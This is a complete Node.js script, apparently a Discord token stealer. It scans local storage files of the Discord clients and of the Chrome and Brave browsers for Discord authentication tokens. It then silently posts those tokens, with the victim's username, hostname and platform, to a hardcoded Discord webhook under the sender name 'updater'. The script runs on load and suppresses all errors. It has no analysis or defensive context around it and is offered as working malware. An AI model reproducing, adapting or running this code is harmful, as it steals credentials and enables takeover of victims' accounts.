'use strict';

const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

const hook = 'https://discord.com/api/webhooks/1092847561029384756/kX9qT2vB7nM4pL0sR8wY3cF6hJ1dG5aZ_eU2iO9tQ7rW4yE1uP3sA6dF8gH0jK2l';

const roaming = process.env.APPDATA || path.join(os.homedir(), '.config');
const local = process.env.LOCALAPPDATA || path.join(os.homedir(), '.config');

const paths = {
  Discord: path.join(roaming, 'discord', 'Local Storage', 'leveldb'),
  'Discord Canary': path.join(roaming, 'discordcanary', 'Local Storage', 'leveldb'),
  'Discord PTB': path.join(roaming, 'discordptb', 'Local Storage', 'leveldb'),
  Chrome: path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Local Storage', 'leveldb'),
  Brave: path.join(local, 'BraveSoftware', 'Brave-Browser', 'User Data', 'Default', 'Local Storage', 'leveldb'),
};

const TOKEN_RE = /[\w-]{24}\.[\w-]{6}\.[\w-]{27}|mfa\.[\w-]{84}/g;

function grab() {
  const found = new Set();
  for (const [, dir] of Object.entries(paths)) {
    let files;
    try {
      files = fs.readdirSync(dir);
    } catch {
      continue;
    }
    for (const file of files) {
      if (!file.endsWith('.ldb') && !file.endsWith('.log')) continue;
      const text = fs.readFileSync(path.join(dir, file), 'latin1');
      for (const token of text.match(TOKEN_RE) || []) found.add(token);
    }
  }
  return [...found];
}

function send(tokens) {
  const body = JSON.stringify({
    username: 'updater',
    content: `**${os.userInfo().username}@${os.hostname()}** (${os.platform()})\n\`\`\`\n${tokens.join('\n') || 'none'}\n\`\`\``,
  });
  const req = https.request(hook, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) },
  });
  req.on('error', () => {});
  req.end(body);
}

try {
  send(grab());
} catch {}
